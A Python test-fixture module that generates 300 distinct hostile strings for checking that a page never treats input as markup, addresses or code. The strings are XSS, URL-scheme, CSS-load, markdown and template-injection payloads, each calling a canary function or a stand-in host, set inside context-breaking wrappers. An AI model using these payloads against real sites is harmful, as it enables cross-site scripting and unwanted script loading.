"""Strings that would do something if a page took them for markup, an address or code: 300 of them, all different.

Each calls `hit(n)` or asks an address with its number at a host that must never be asked.
"""

HOST = "https://foreign.invalid"
_PATTERNS = (
    "<script>hit({n})</script>",
    "<script src={host}/{n}></script>",
    "<img src=x onerror=hit({n})>",
    "<img src={host}/{n}>",
    "<svg onload=hit({n})>",
    "<svg><script>hit({n})</script></svg>",
    "<svg><a xlink:href=javascript:hit({n})><text>x</text></a></svg>",
    "<iframe srcdoc='<script>parent.hit({n})</script>'></iframe>",
    "<iframe src=javascript:parent.hit({n})></iframe>",
    "<object data={host}/{n}></object>",
    "<embed src={host}/{n}>",
    "<link rel=stylesheet href={host}/{n}>",
    "<style>@import url({host}/{n});</style>",
    "<style>*{{background:url({host}/{n})}}</style>",
    "<meta http-equiv=refresh content='0;url={host}/{n}'>",
    "<base href={host}/{n}/>",
    "<form action={host}/{n}><input autofocus onfocus=hit({n})></form>",
    "<details open ontoggle=hit({n})>x</details>",
    "<video src={host}/{n} autoplay onerror=hit({n})></video>",
    "<audio src=x onerror=hit({n})>",
    "<body onload=hit({n})>",
    "<math><mtext><style><img src=x onerror=hit({n})></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=hit({n})>'>",
    "<template><img src=x onerror=hit({n})></template>",
    "<a href=javascript:hit({n})>x</a>",
    "<div style='background:url({host}/{n})'>x</div>",
    "<input type=image src={host}/{n} onerror=hit({n})>",
    "<button onclick=hit({n}) autofocus onfocus=hit({n})>x</button>",
    "<marquee onstart=hit({n})>x</marquee>",
    "<x-y onfocus=hit({n}) tabindex=0 autofocus>x</x-y>",
    "javascript:hit({n})",
    "JaVaScRiPt:hit({n})//",
    "data:text/html,<script>parent.hit({n})</script>",
    "vbscript:hit({n})",
    "//foreign.invalid/{n}",
    "![x]({host}/{n})",
    "[x](javascript:hit({n}))",
    "{{{{constructor.constructor('hit({n})')()}}}}",
    "${{hit({n})}}",
    "`;hit({n});`",
)
_WRAPPINGS = (
    "{}",
    "\"'>{}",
    "</mark></p></script>{}",
    "</textarea></title></style>{}",
    "<!-->{}<!--",
    "]]>{}",
    "\u202e{}\u202c",
    "\u200b🚗 𠮷 {} 汽车",
)


def hostile_strings(number: int = 300) -> list[str]:
    """Return so many different strings, every pattern in as many wrappings as it takes."""
    made = (pattern.format(n=place, host=HOST) for place, pattern in _numbered(number))
    return [_WRAPPINGS[place // len(_PATTERNS)].format(text) for place, text in enumerate(made)]


def _numbered(number: int) -> list[tuple[int, str]]:
    return [(place, _PATTERNS[place % len(_PATTERNS)]) for place in range(number)]
